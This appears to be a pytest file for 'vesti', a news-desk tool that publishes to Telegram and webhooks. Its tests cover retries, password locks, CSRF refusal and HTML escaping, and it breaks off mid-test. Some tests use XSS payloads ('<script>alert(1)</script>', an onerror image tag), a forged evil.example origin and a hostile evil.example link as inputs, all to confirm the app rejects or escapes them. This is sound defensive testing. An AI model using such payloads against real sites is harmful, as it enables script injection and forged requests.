HOSTILE_LINK = "https://evil.example/buy?" + "&".join(f"a{k}=<b>" for k in range(1000))


def test_what_a_failed_send_or_deletion_does_is_decided_from_the_failure_alone():
    """A 429 waits uncounted; a Telegram message with no answer is doubted,
    never sent again on its own; a webhook's (its key makes a retry safe)
    and one not done wait a doubling backoff until the attempts run out; a
    refusal fails. A deletion whose message is gone is done; trouble on the
    way is tried again; a refusal leaves the message published."""
    failure = vesti.SendFailed
    paused, unsure = failure("429", pause=7), failure("timed out", unsure=True)
    refused, not_done = failure("400 bad request"), failure("connection refused", retry=True)
    assert vesti.failed_send(paused, True, 5, 5) == ("pause", None)
    assert vesti.failed_send(unsure, True, 1, 5) == ("doubt", None)
    assert [vesti.failed_send(unsure, False, n, 5) for n in (1, 2, 4, 5)] == \
        [("retry", 10), ("retry", 20), ("retry", 80), ("fail", None)]
    assert vesti.failed_send(not_done, True, 1, 5) == ("retry", 10)
    assert vesti.failed_send(not_done, False, 30, 40) == ("retry", 3600)
    assert vesti.failed_send(refused, True, 1, 5) == ("fail", None)
    gone = failure("Bot API deleteMessage: 400 Bad Request: message to delete not found")
    assert vesti.failed_deletion(gone) == ("gone", None)
    assert vesti.failed_deletion(paused) == ("again", 7)
    assert vesti.failed_deletion(unsure) == ("again", 10)
    assert vesti.failed_deletion(failure("400 message can't be deleted")) == ("kept", None)


def in_time(call, seconds=15):
    """Run `call` in a thread; whether it finished within `seconds`."""
    thread = threading.Thread(target=call, daemon=True)
    thread.start()
    thread.join(seconds)
    return not thread.is_alive()


@both
def test_a_hostile_link_neither_freezes_the_database_nor_breaks_the_message(home, bot):
    alert = {"name": "editors", "alert": "-1001234567890", "min_relevance": 5, "per_hour": 10}
    s, db, lwn_id = publish_home(home, bot, [CHANNEL, alert])
    conn = db.conn()
    publisher = vesti.Publisher(db, s)
    publisher.look()                     # the alert target looks from here on
    hostile = desk_post(conn, lwn_id, 1, title="Deals <b>now</b> & more")
    long_but_fine = desk_post(conn, lwn_id, 2)
    fine_link = "https://news.example/" + "x" * 1500
    conn.execute("UPDATE posts SET url = ?, published_at = ? WHERE id = ?",
                 (HOSTILE_LINK, vesti.utc_text(), hostile))
    conn.execute("UPDATE posts SET url = ?, published_at = ? WHERE id = ?",
                 (fine_link, vesti.utc_text(), long_but_fine))
    assert len(HOSTILE_LINK) > 6000
    assert in_time(lambda: vesti.set_decisions(db.conn(), [hostile, long_but_fine], "approved", "ed"))
    # Nothing holds the database: another process's write goes through.
    other = vesti.Database(s.db).conn()
    other.execute("UPDATE sources SET last_fetch = ? WHERE id = ?", (vesti.utc_text(), lwn_id))
    assert in_time(publisher.look)
    channel = [m for m in bot.messages if m["chat"] == "@vesti_test"]
    alerts = [m for m in bot.messages if m["chat"] == "-1001234567890"]
    assert len(channel) == 2 and len(alerts) == 2, bot.calls[-1]
    first, second = channel
    assert "<b>Deals &lt;b&gt;now&lt;/b&gt; &amp; more</b>" in first["text"]
    assert "evil.example" not in first["text"] and "link left out" in first["shown"]
    assert f'<a href="{fine_link}">' in second["text"] and len(second["shown"]) < 300
    assert {row["state"] for row in publications(conn)} == {"published"}


@pytest.mark.parametrize("fault", [("hang", 4), ("close", 0.2), ("posted-502", 0.5)])
def test_a_telegram_send_with_no_answer_is_uncertain_and_never_sent_again(home, bot, fault,
                                                                          closing):
    s, db, lwn_id = publish_home(home, bot, RSS_TIMEOUT="1", VESTI_WEB_PASSWORD="s3cret")
    conn = db.conn()
    bot.script = [fault]
    post = desk_post(conn, lwn_id, 1)
    vesti.set_decisions(conn, [post], "approved", "ed")
    clock = Clock()
    publisher = vesti.Publisher(db, s, clock)
    publisher.look()
    row = publications(conn)[0]
    assert len(bot.messages) == 1 and row["state"] == "uncertain", row["error"]
    assert "may or may not have arrived" in row["error"] and publisher.uncertain == 1
    for _ in range(3):                   # however long it waits: never again on its own
        clock.now += 3600
        publisher.look()
    assert len(bot.messages) == 1 and [m for m, *_ in bot.calls] == ["sendMessage"]
    # Taken back, it may be in the channel with no id to delete it by: an
    # editor is told to look, not told it was cancelled.
    vesti.set_decisions(conn, [post], "new", "ed")
    publisher.look()
    row = publications(conn)[0]
    assert row["state"] == "uncertain" and row["retract"] == 1
    web = closing(Web(home, settings=s))
    page = web.get("/outbox")[2]
    assert "may have arrived in @vesti_test" in page and "Checked the channel" in page
    assert "Send again" not in page
    assert "Publishing to" in web.get("/")[2]
    assert web.post(f"/publications/{row['id']}", {"token": web.token(), "action": "again",
                                                   "seen": "uncertain"})[0] == 409
    assert web.post(f"/publications/{row['id']}", {"token": web.token(), "action": "cancel",
                                                   "seen": "uncertain"})[0] == 303
    assert publications(conn)[0]["state"] == "cancelled" and len(bot.messages) == 1


def test_a_webhook_whose_answer_is_lost_is_sent_again_with_the_same_key(home, closing):
    receiver = closing(WebhookReceiver("hook-secret"))
    s, db, lwn_id = publish_home(home, targets=[{"name": "cms", "webhook": receiver.url + "/in"}],
                                 VESTI_WEBHOOK_SECRET="hook-secret", RSS_TIMEOUT="0.5")
    conn = db.conn()
    receiver.script = [("hang", 3, 200)]
    vesti.set_decisions(conn, [desk_post(conn, lwn_id, 1)], "approved", "ed")
    clock = Clock()
    publisher = vesti.Publisher(db, s, clock)
    publisher.look()
    row = publications(conn)[0]
    assert row["state"] == "queued" and "no answer" in row["error"]
    clock.now += vesti.PUBLISH_BACKOFF + 1
    publisher.look()
    (first, item), (again, same) = receiver.deliveries
    assert first["Idempotency-Key"] == again["Idempotency-Key"] and item == same
    assert publications(conn)[0]["state"] == "published"
    # Lost again and taken back before the retry: the receiver may have
    # kept it, so it hears of the withdrawal all the same.
    receiver.script = [("hang", 3, 200)]
    other = desk_post(conn, lwn_id, 2)
    vesti.set_decisions(conn, [other], "approved", "ed")
    publisher.look()
    vesti.set_decisions(conn, [other], "new", "ed")
    clock.now += 3600
    publisher.look()
    assert receiver.deliveries[-1][1] == {"event": "deleted", "id": str(other)}
    row = publications(conn)[1]
    assert row["state"] == "cancelled" and row["deleted_at"] and not row["retract"]


def test_a_webhook_send_cut_off_by_a_crash_is_sent_again_with_its_key(home, closing):
    receiver = closing(WebhookReceiver("hook-secret"))
    s, db, lwn_id = publish_home(home, targets=[{"name": "cms", "webhook": receiver.url + "/in"}],
                                 VESTI_WEBHOOK_SECRET="hook-secret")
    conn = db.conn()
    receiver.script = [("hang", 60, 200)]
    vesti.set_decisions(conn, [desk_post(conn, lwn_id, 1)], "approved", "ed")
    process = closing(subprocess.Popen([*VESTI, "publish", "--forever"], cwd=home,
                                       env=cli_env({"VESTI_WEBHOOK_SECRET": "hook-secret"}),
                                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True))
    assert receiver.received.wait(30)
    process.kill()
    process.wait()
    clock = Clock()
    clock.now += 3600                      # the dead sender's lease ran out
    vesti.Publisher(db, s, clock).look()
    (first, item), (again, same) = receiver.deliveries
    assert first["Idempotency-Key"] == again["Idempotency-Key"] and item == same
    assert publications(conn)[0]["state"] == "published"


def test_a_pause_a_429_asks_for_is_never_cut_short(home, bot):
    s, db, lwn_id = publish_home(home, bot)
    conn = db.conn()
    bot.script = [("429", 7)]
    vesti.set_decisions(conn, [desk_post(conn, lwn_id, 1)], "approved", "ed")
    clock = Clock()
    clock.now = int(clock.now) + 0.9             # late in its second
    publisher = vesti.Publisher(db, s, clock)
    publisher.look()
    clock.now += 6.95                            # 7 s not yet over
    publisher.look()
    assert not bot.messages
    clock.now += 1.1
    publisher.look()
    assert len(bot.messages) == 1


@both
def test_an_undo_while_the_send_fails_cancels_it_for_good(home, closing):
    receiver = closing(WebhookReceiver("hook-secret"))
    s, db, lwn_id = publish_home(home, targets=[{"name": "cms", "webhook": receiver.url + "/in"}],
                                 VESTI_WEBHOOK_SECRET="hook-secret")
    conn = db.conn()
    receiver.script = [("hang", 0.8, 503)]
    post = desk_post(conn, lwn_id, 1)
    vesti.set_decisions(conn, [post], "approved", "ed")
    clock = Clock()
    publisher = vesti.Publisher(db, s, clock)
    sending = threading.Thread(target=publisher.look)
    sending.start()
    assert receiver.received.wait(10)
    vesti.set_decisions(vesti.Database(s.db).conn(), [post], "new", "ed")   # meanwhile
    sending.join(20)
    assert publications(conn)[0]["state"] == "cancelled"
    clock.now += 3600
    publisher.look()
    assert len(receiver.deliveries) == 1


@both
def test_every_undo_deletes_what_the_approval_before_it_sent(home, bot):
    s, db, lwn_id = publish_home(home, bot)
    conn = db.conn()
    post = desk_post(conn, lwn_id, 1)
    publisher = vesti.Publisher(db, s)
    for _ in range(3):
        vesti.set_decisions(conn, [post], "approved", "ed")
        publisher.look()
        assert len(bot.messages) == 1 and publications(conn)[0]["state"] == "published"
        vesti.set_decisions(conn, [post], "new", "ed")
        publisher.look()
        assert bot.messages == [] and publications(conn)[0]["state"] == "cancelled"
    assert len(bot.deleted) == 3 and len(publications(conn)) == 1


def test_a_message_is_deleted_in_the_chat_it_went_to_after_the_target_moved(home, bot):
    s, db, lwn_id = publish_home(home, bot)
    conn = db.conn()
    post = desk_post(conn, lwn_id, 1)
    vesti.set_decisions(conn, [post], "approved", "ed")
    vesti.Publisher(db, s).look()
    bot.messages.append({"message_id": bot.messages[0]["message_id"], "chat": "-1001234567890",
                         "text": "someone else's message", "shown": "", "date": 0, "at": 0})
    text = (home / "sources.yaml").read_text().replace("'@vesti_test'", "'-1001234567890'")
    (home / "sources.yaml").write_text(text.replace("@vesti_test", "'-1001234567890'"))
    registry, db = vesti.open_intake(s)
    assert db.conn().execute("SELECT address FROM targets").fetchone()[0] == "-1001234567890"
    vesti.set_decisions(conn, [post], "new", "ed")
    vesti.Publisher(db, s).look()
    assert [m["text"] for m in bot.messages] == ["someone else's message"]
    assert bot.deleted[0]["chat"] == "@vesti_test"


@both
def test_a_sources_edit_takes_back_what_was_queued_and_targets_get_the_approved_words(home,
                                                                                      closing):
    receiver = closing(WebhookReceiver("hook-secret"))
    targets = [{"name": "cms", "webhook": receiver.url + "/in", "every": "1h"}]
    s, db, lwn_id = publish_home(home, targets=targets, VESTI_WEBHOOK_SECRET="hook-secret")
    conn = db.conn()
    sent, edited, touched = (desk_post(conn, lwn_id, k, text=f"Words of post {k} as approved.")
                             for k in (1, 2, 3))
    vesti.set_decisions(conn, [sent, edited, touched], "approved", "ed")
    clock = Clock()
    publisher = vesti.Publisher(db, s, clock)
    publisher.look()
    assert [item["id"] for _, item in receiver.deliveries] == [str(sent)]

    def edit(k, title, text):
        return vesti.Draft(f"e{k}", f"http://x/{k}", f"http://x/{k}", title, text, "full",
                           november(k), edited_at=vesti.utc_text())
    vesti.update_edited_posts(conn, lwn_id, [
        edit(2, "BUY CASINO PILLS", "BUY CASINO PILLS now, cheap."),
        edit(3, "Post 3", "Words of post 3 as approved!"),          # the same words
        edit(1, "BUY CASINO PILLS", "BUY CASINO PILLS now, cheap.")])
    rows = {row["post_id"]: row for row in publications(conn)}
    assert rows[edited]["state"] == "cancelled"
    assert rows[sent]["state"] == "published" and rows[sent]["retract"] == 1
    for _ in range(3):
        clock.now += 3600
        publisher.look()
    delivered = [item for _, item in receiver.deliveries]
    assert delivered[1] == {"event": "deleted", "id": str(sent)}
    assert [item.get("id") for item in delivered[2:]] == [str(touched)]
    assert delivered[2]["title"] == "Post 3" and delivered[2]["decided_by"] == "ed"
    assert not any("CASINO" in json.dumps(item) for item in delivered)


def unshared(*command):
    """A command in a PID namespace of its own, as in a container: its
    processes have PIDs the host's do not (and may share them)."""
    return ["unshare", "--pid", "--fork", "--kill-child", *command]


@pytest.mark.slow
@both
def test_two_publishers_in_containers_of_one_host_never_send_at_once(home, bot, closing):
    probe = subprocess.run(unshared("true"), capture_output=True)
    if probe.returncode != 0:
        pytest.skip(f"no PID namespaces here: {probe.stderr.decode().strip()}")
    s, db, lwn_id = publish_home(home, bot)
    conn = db.conn()
    ids = [desk_post(conn, lwn_id, k) for k in range(4)]
    vesti.set_decisions(conn, ids, "approved", "ed")
    bot.script = [("hang", 1.0), ("hang", 1.0)]
    env = cli_env({"TG_BOT_TOKEN": bot.TOKEN, "TG_BOT_API": bot.url, "RSS_TIMEOUT": "5"})
    publish = " ".join(map(shlex.quote, [*VESTI, "publish", "--forever"]))
    # The first runs as PID 2 of its namespace, the second as PID 3: in the
    # second's, PID 2 is gone, as the first would look if judged by its PID.
    first = closing(subprocess.Popen(unshared("sh", "-c", f"{publish}; true"), cwd=home,
                                     env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                     text=True))
    assert bot.posted.wait(20)
    second = closing(subprocess.Popen(unshared("sh", "-c", f"/bin/true; {publish}; true"),
                                      cwd=home, env=env, stdout=subprocess.PIPE,
                                      stderr=subprocess.PIPE, text=True))
    assert wait_for(lambda: [r["state"] for r in publications(conn)] == ["published"] * 4,
                    timeout=60)
    second.kill()
    second.wait()
    first.kill()
    first.wait()
    assert shown_titles(bot) == [f"Post {k}" for k in range(4)]
    sends = [at for method, _, at in bot.calls if method == "sendMessage"]
    assert all(b - a >= 1.0 for a, b in zip(sends, sends[1:3]))   # none while another was out


def test_one_slow_webhook_delays_no_other_target(home, bot, closing):
    drip = closing(DripServer(every=0.2, lifetime=20))
    targets = [{"name": "a-cms", "webhook": drip.url + "/in"}, CHANNEL]
    s, db, lwn_id = publish_home(home, bot, targets, VESTI_WEBHOOK_SECRET="k",
                                 RSS_TIMEOUT="0.5")
    conn = db.conn()
    vesti.set_decisions(conn, [desk_post(conn, lwn_id, 1)], "approved", "ed")
    started = time.time()
    vesti.Publisher(db, s).look()
    took = time.time() - started
    assert bot.messages[0]["at"] - started < 1.0
    assert took < 4                  # the webhook's whole answer had 1.5 s
    cms = publications(conn, "a-cms")[0]
    assert cms["state"] == "queued" and "no whole answer within 1.5 s" in cms["error"]


def test_a_digest_of_many_alerts_is_cut_on_its_items_and_telegram_takes_it(home, bot):
    alert = {"name": "editors", "alert": "-1001234567890", "min_relevance": 8, "per_hour": 1}
    s, db, lwn_id = publish_home(home, bot, [alert], VESTI_PUBLIC_URL="https://desk.example")
    conn = db.conn()
    publisher = vesti.Publisher(db, s)
    publisher.look()
    for k in range(40):
        desk_post(conn, lwn_id, k, relevance=9,
                  title=f"Story {k}: AT&T <beats> R&D in a long headline " + "word " * 30)
    conn.execute("UPDATE posts SET published_at = ?", (vesti.utc_text(),))
    publisher.look()
    [digest] = bot.messages
    assert digest["shown"].startswith("⚡ 40 stories") and len(digest["shown"]) <= 4096
    assert "AT&amp;T &lt;beats&gt;" in digest["text"]
    shown = digest["text"].count("<a href=")
    assert 10 <= shown < 40 and f"… and {40 - shown} more on the desk" in digest["shown"]
    assert {row["state"] for row in publications(conn, "editors")} == {"published"}


def test_a_webhooks_long_text_in_cyrillic_is_saved_as_its_counter_promised(home, closing,
                                                                          browser):
    """The counter says a webhook's text may hold WEBHOOK_TEXT_LIMIT
    characters, counted as the server counts them (an emoji is one); Cyrillic
    takes 6 bytes each in a form, CJK 9, an emoji 12: a text the counter
    allows is never refused for the size of its form."""
    receiver = closing(WebhookReceiver("k"))
    s, db, lwn_id = publish_home(home, None, [{"name": "cms", "webhook": receiver.url + "/in",
                                               "every": "1h"}],
                                 VESTI_WEB_PASSWORD="s3cret", VESTI_WEBHOOK_SECRET="k")
    web = closing(Web(home, settings=s))
    conn = db.conn()
    vesti.set_decisions(conn, [desk_post(conn, lwn_id, 1), desk_post(conn, lwn_id, 2)],
                        "approved", "ed")
    vesti.Publisher(db, s).look()
    waiting = publications(conn, "cms")[1]
    assert f'data-limit="{vesti.WEBHOOK_TEXT_LIMIT}"' in web.get("/outbox")[2]
    browser.open(web.origin + "/outbox", {"Authorization": web.auth})
    counted = browser.evaluate("""(() => {
        const area = document.querySelector('tr.pub-queued textarea');
        area.value = '📰'.repeat(3) + 'Ядро'; area.dispatchEvent(new Event('input'));
        return area.parentNode.querySelector('.counter').textContent; })()""")
    assert counted == f"7 / {vesti.WEBHOOK_TEXT_LIMIT}"
    for text in ("Ядро Linux " * (vesti.WEBHOOK_TEXT_LIMIT // 11),
                 "内核" * (vesti.WEBHOOK_TEXT_LIMIT // 2), "📰" * vesti.WEBHOOK_TEXT_LIMIT):
        waiting = publications(conn, "cms")[1]
        status, _, page = web.post(f"/publications/{waiting['id']}",
                                   {"token": web.token(), "action": "text", "text": text,
                                    "seen": "queued", "version": str(waiting["version"])})
        assert status == 303, page[:300]
        assert publications(conn, "cms")[1]["text"] == text


def test_an_editors_text_is_plain_and_one_too_long_is_kept_on_the_page_with_why(home, bot, closing):
    s, db, lwn_id = publish_home(home, bot, [{**CHANNEL, "every": "1h"}], VESTI_WEB_PASSWORD="s3cret")
    web = closing(Web(home, settings=s))
    conn = db.conn()
    vesti.set_decisions(conn, [desk_post(conn, lwn_id, 1), desk_post(conn, lwn_id, 2)],
                        "approved", "ed")
    vesti.Publisher(db, s).look()
    waiting = publications(conn)[1]
    page = web.get("/outbox")[2]
    assert 'data-limit="4096"' in page and 'class="small muted counter"' in page
    long_text = "Too long. " * 500
    status, _, page = web.post(f"/publications/{waiting['id']}",
                               {"token": web.token(), "action": "text", "text": long_text,
                                "seen": "queued", "version": str(waiting["version"])})
    assert status == 400 and "Nothing was saved" in page and "5000 characters" in page
    assert long_text.strip() in page and f'id="publication-{waiting["id"]}"' in page
    assert publications(conn)[1]["text"] == waiting["text"]
    # A version the page no longer has is refused, not overwritten.
    status, _, _ = web.post(f"/publications/{waiting['id']}",
                            {"token": web.token(), "action": "text", "text": "Mine",
                             "seen": "queued", "version": str(waiting["version"] - 1)})
    assert status == 409 and publications(conn)[1]["text"] == waiting["text"]
    for version in ("²", "1e3", "-1"):             # not a version at all: said so, nothing saved
        status, _, page = web.post(f"/publications/{waiting['id']}",
                                   {"token": web.token(), "action": "text", "text": "Mine",
                                    "seen": "queued", "version": version})
        assert status == 400 and "version" in page, (version, status)
    assert publications(conn)[1]["text"] == waiting["text"]


def test_a_failing_target_is_named_on_every_page_and_in_status(home, closing):
    bot = closing(FakeBotApi(not_member=("@vesti_test",)))
    s, db, lwn_id = publish_home(home, bot, VESTI_WEB_PASSWORD="s3cret")
    conn = db.conn()
    vesti.set_decisions(conn, [desk_post(conn, lwn_id, k) for k in range(3)], "approved", "ed")
    vesti.Publisher(db, s).look()
    web = closing(Web(home, settings=s))
    for path in ("/", "/crawlers", "/quality", "/outbox"):
        banner = re.search(r'<p class="banner outbox-trouble"[^>]*>(.*?)</p>', web.get(path)[2])
        assert banner, path
        assert 'href="/outbox#target-channel">channel</a>' in banner[1]
        assert "bot is not a member" in banner[1] and "3 posts wait" in banner[1]
        assert "paused until" in banner[1]
    assert [row["state"] for row in publications(conn)] == ["queued"] * 3
    assert len(bot.calls) == 1           # one refusal pauses the whole target
    out = cli("status", cwd=home, env={"VESTI_WEB_PASSWORD": "s3cret"}).stdout
    assert "publish channel: NEEDS AN EDITOR: paused until" in out
    assert "Bot API sendMessage: 403 Forbidden: bot is not a member" in out
    bot.not_member.clear()               # the bot is back in the channel: the posts go
    clock = Clock()
    clock.now += vesti.TARGET_PAUSE + 1
    vesti.Publisher(db, s, clock).look()
    assert len(bot.messages) == 3 and "NEEDS AN EDITOR" not in cli(
        "status", cwd=home).stdout


def test_secrets_stay_out_of_logs_and_errors_however_they_are_echoed(home, bot):
    hook = "https://hooks.example/services/T0/B0/s3cr3tpathXYZ"
    s, db, lwn_id = publish_home(home, bot, [CHANNEL, {"name": "cms", "webhook": hook}],
                                 VESTI_WEBHOOK_SECRET="k")
    result = cli("-vv", "status", cwd=home, env={"TG_BOT_TOKEN": bot.TOKEN})
    assert result.returncode == 0 and "INSERT INTO targets" in result.stderr
    assert "s3cr3tpath" not in result.stderr + result.stdout
    secret_part = bot.TOKEN.split(":")[1]
    for echo in (bot.TOKEN.upper(), bot.TOKEN[:20], secret_part[3:]):
        assert vesti.masked(f"Bad Request: token {echo} is wrong", bot.TOKEN) == \
            "Bad Request: token *** is wrong"
    assert vesti.masked("nothing secret here", bot.TOKEN) == "nothing secret here"


# Web pages --------------------------------------------------------------------

def card(page, name):
    match = re.search(rf'id="queue-{name}"><span>[^<]*</span><b>(\d+)</b>', page)
    return int(match[1])


@both
def test_seed_crawlers_page_shows_lwn_alive_and_its_15_queued_posts(web):
    add_posts(web.db.conn(), 15, source_id=source_row(web.db, "lwn")["id"])
    status, _, page = web.get("/crawlers")
    assert status == 200
    row = re.search(r'<tr id="source-lwn">.*?</tr>', page)[0]
    assert "<b>lwn</b>" in row and ">LWN" not in row and 'class="alive">alive<' in row
    assert card(page, "pending") == 15 and "<b>15</b>" in page


@both
def test_seed_queue_sizes_10_pending_2_processing(web):
    conn = web.db.conn()
    add_posts(conn, 10)
    add_posts(conn, 2, start=10)
    conn.execute("UPDATE posts SET classified = -1, claimed_at = ? WHERE id > 10", (ago(0),))
    status, headers, body = web.get("/api/queue")
    assert status == 200 and headers["Content-Type"] == "application/json"
    assert json.loads(body) == {"pending": 10, "processing": 2, "done_today": 0, "failed": 0}
    page = web.get("/crawlers")[2]
    assert [card(page, n) for n in ("pending", "processing", "done_today", "failed")] == [10, 2, 0, 0]


@both
def test_seed_reset_dead_makes_dead_sources_alive(web):
    conn = web.db.conn()
    conn.execute("UPDATE sources SET status = 'dead', error_count = 7, last_error = 'HTTP 500'")
    status, headers, _ = web.post("/crawlers/reset", {"token": web.token()})
    assert status == 303 and headers["Location"] == "/crawlers"
    row = source_row(web.db, "lwn")
    assert (row["status"], row["error_count"], row["last_error"]) == ("alive", 0, None)


@pytest.mark.parametrize("path", ["/", "/crawlers", "/api/queue", "/crawlers/reset", "/nope"])
@pytest.mark.parametrize("auth", [None, "Basic " + base64.b64encode(b"admin:wrong").decode(),
                                  "Basic " + base64.b64encode(b"root:s3cret").decode(),
                                  "Basic !!!", "Bearer s3cret"])
def test_every_page_but_healthz_needs_the_password(web, path, auth):
    status, headers, body = web.get(path, auth=False,
                                    headers={"Authorization": auth} if auth else None)
    assert status == 401
    assert headers["WWW-Authenticate"].startswith("Basic realm=")
    assert "s3cret" not in body


def test_healthz_answers_without_a_password(web):
    assert web.get("/healthz", auth=False)[:1] == (200,)
    assert web.request("HEAD", "/healthz", auth=False)[0] == 200
    assert web.request("OPTIONS", "/crawlers", auth=False)[0] == 401
    assert web.request("OPTIONS", "/crawlers")[0] == 405
    for method in ("TRACE", "PROPFIND", "BREW"):          # methods http.server never heard of
        assert web.request(method, "/crawlers", auth=False)[0] == 401
        status, headers, _ = web.request(method, "/crawlers")
        assert (status, headers["Allow"]) == (405, "GET, HEAD"), method
        assert web.request(method, "/nowhere")[0] == 404


@pytest.mark.slow
def test_the_generated_password_stays_the_same_across_restarts(home, closing):
    write_sources(home / "sources.yaml", [])
    statuses = []
    for run in range(2):
        env = {k: v for k, v in os.environ.items() if k != "VESTI_WEB_PASSWORD"}
        process = closing(subprocess.Popen([*VESTI, "serve", "--port", "0"],
                                           cwd=home, text=True, stdout=subprocess.PIPE,
                                           stderr=subprocess.PIPE, env=env))
        said = first_lines(process, 2)
        port = int(re.search(r"http://127\.0\.0\.1:(\d+)/", said)[1])
        if run == 0:
            password = re.search(r"generated password (\S+),", said)[1]
            assert "VESTI_WEB_PASSWORD" in said
        else:
            assert password not in said and "generated" not in said
            assert "the one printed at the first start" in said
        for given in (password, "wrong"):
            conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
            auth = base64.b64encode(f"admin:{given}".encode()).decode()
            conn.request("GET", "/api/queue", headers={"Authorization": f"Basic {auth}"})
            statuses.append(conn.getresponse().status)
        out, err = stop_process(process)
        assert password not in err
    assert statuses == [200, 401, 200, 401]
    kept = sqlite3.connect(home / "vesti.db").execute(
        "SELECT value FROM meta WHERE key = 'web_password'").fetchone()[0]
    assert kept.startswith("scrypt:16384:8:5:") and password not in kept


def test_no_password_is_made_when_the_page_cannot_start(home):
    write_sources(home / "sources.yaml", [])
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        env = {k: v for k, v in os.environ.items() if k != "VESTI_WEB_PASSWORD"}
        result = subprocess.run([*VESTI, "serve", "--port", str(taken.getsockname()[1])],
                                cwd=home, env=env, capture_output=True, text=True, timeout=30)
    assert result.returncode == 2 and "cannot listen" in result.stderr
    kept = sqlite3.connect(home / "vesti.db").execute(
        "SELECT value FROM meta WHERE key = 'web_password'").fetchone()
    assert kept is None         # the next start makes one, and prints it


@both
def test_a_locked_name_is_refused_right_password_or_not_and_stays_locked_after_a_restart(web, caplog):
    wrong = basic("admin", "guess")
    assert web.get("/", auth=False)[0] == 401             # a script's first ask counts for nothing
    assert [web.get("/", auth=False, headers=wrong)[0] for _ in range(5)] == [401] * 5
    status, headers, body = web.get("/", auth=False, headers=wrong)
    assert status == 429 and 0 < int(headers["Retry-After"]) <= 900
    assert "Too many wrong passwords" in body and "guess" not in body
    # The right password is answered the same: no oracle for a guesser.
    for _ in range(3):
        assert web.get("/")[:1] == (429,)
    assert web.get("/healthz", auth=False)[0] == 200
    warnings = [r.getMessage() for r in caplog.records if "wrong passwords" in r.getMessage()]
    assert len(warnings) == 1 and "guess" not in warnings[0]
    # Another process (or this one restarted) sees the lock: it is in the database.
    again = vesti.WebApp(web.db, web.settings, web.registry, "s3cret")
    assert [kind for kind, *_ in vesti.sign_in_locks(web.db.conn())] == ["name"]
    with pytest.raises(vesti.SignInLocked):
        again.sign_in("127.0.0.1", "admin", "s3cret", "test")
    events = [row["action"] for row in web.db.conn().execute("SELECT action FROM events")]
    assert events.count("sign-in failed") == 5 and events.count("sign-in locked") == 1
    # A quarter of an hour later it is over.
    web.db.conn().execute("UPDATE sign_in_failures SET at = at - 901")
    assert web.get("/")[0] == 200


def test_an_ipv6_client_is_its_whole_64():
    assert vesti.address_key("2001:db8::1") == vesti.address_key("2001:db8::ffff:1")
    assert vesti.address_key("2001:db8:0:1::1") != vesti.address_key("2001:db8::1")
    assert vesti.address_key("192.0.2.1") == "192.0.2.1"


def test_unknown_paths_are_404_and_wrong_methods_405(web):
    assert web.get("/nope")[0] == 404
    status, headers, _ = web.get("/crawlers/reset")
    assert status == 405 and headers["Allow"] == "POST"
    status, headers, _ = web.request("DELETE", "/crawlers")
    assert status == 405 and headers["Allow"] == "GET, HEAD"


@pytest.mark.parametrize("form,origin", [
    ({}, None),                                            # no token
    ({"token": "forged"}, None),                           # wrong token
    ({"token": "RIGHT"}, "http://evil.example"),           # right token, foreign page
])
def test_a_cross_site_post_is_refused(web, form, origin):
    conn = web.db.conn()
    conn.execute("UPDATE sources SET status = 'dead', error_count = 7")
    form = {k: (web.token() if v == "RIGHT" else v) for k, v in form.items()}
    status, _, _ = web.post("/crawlers/reset", form, origin=origin)
    assert status == 403
    assert source_row(web.db, "lwn")["status"] == "dead"


@pytest.mark.parametrize("kind", ["text/plain", "application/json", None])
def test_a_form_sent_as_another_kind_of_body_is_refused(web, kind):
    """A page of another site may send text/plain without asking first; a
    form is only ever read from a form's own kind of body, whatever it
    holds (here the right token, from this page's origin)."""
    web.db.conn().execute("UPDATE sources SET status = 'dead', error_count = 7")
    body = urllib.parse.urlencode({"token": web.token()})
    headers = {"Origin": web.origin, **({"Content-Type": kind} if kind else {})}
    conn = http.client.HTTPConnection("127.0.0.1", web.port, timeout=10)
    conn.request("POST", "/crawlers/reset", body=body, headers={"Authorization": web.auth,
                                                                **headers})
    response = conn.getresponse()
    assert (response.status, response.read()) == \
        (415, b"Send the form as application/x-www-form-urlencoded\n")
    conn.close()
    assert source_row(web.db, "lwn")["status"] == "dead"
    status, _, _ = web.post("/crawlers/reset", {"token": web.token()})
    assert status == 303 and source_row(web.db, "lwn")["status"] == "alive"


def test_a_form_sent_in_chunks_is_refused_for_want_of_its_length(web):
    """Not taken for a forgery (its token is right): the client is told to
    give the form's length."""
    web.db.conn().execute("UPDATE sources SET status = 'dead', error_count = 7")
    body = urllib.parse.urlencode({"token": web.token()}).encode()
    request = (f"POST /crawlers/reset HTTP/1.1\r\nHost: 127.0.0.1:{web.port}\r\n"
               f"Authorization: {web.auth}\r\nOrigin: {web.origin}\r\n"
               "Content-Type: application/x-www-form-urlencoded\r\n"
               "Transfer-Encoding: chunked\r\n\r\n").encode() + \
        b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
    with socket.create_connection(("127.0.0.1", web.port), timeout=10) as sock:
        sock.sendall(request)
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    assert answer.startswith(b"HTTP/1.1 411 ") and \
        answer.endswith(b"Send the form with a Content-Length, not in chunks\n"), answer
    assert source_row(web.db, "lwn")["status"] == "dead"


def test_a_huge_request_body_is_refused(web):
    status, _, _ = web.request("POST", "/crawlers/reset", body="x" * (vesti.MAX_REQUEST_BODY + 1),
                               headers={"Origin": web.origin})
    assert status == 413
    # Only the outbox's text form may be larger (a webhook's long text); no
    # other, and not that one past its own limit.
    status, _, _ = web.request("POST", "/login", body="x" * (vesti.MAX_REQUEST_BODY + 1),
                               auth=False, headers={"Origin": web.origin})
    assert status == 413
    # (Said, not sent: the server answers without reading a body it refuses.)
    with socket.create_connection(("127.0.0.1", web.port), timeout=10) as sock:
        sock.sendall(f"POST /publications/1 HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                     f"Authorization: {web.auth}\r\nOrigin: {web.origin}\r\n"
                     f"Content-Type: application/x-www-form-urlencoded\r\n"
                     f"Content-Length: {vesti.MAX_LARGE_FORM + 1}\r\n\r\n".encode())
        assert sock.recv(65536).startswith(b"HTTP/1.1 413 ")


def test_names_and_errors_full_of_html_are_escaped_and_errors_cut_to_200(web):
    conn = web.db.conn()
    conn.execute("UPDATE sources SET name = '<script>alert(1)</script>', "
                 "last_error = ? WHERE slug = 'lwn'", ('<img src=x onerror=alert(2)>' + "e" * 400,))
    page = web.get("/crawlers")[2]
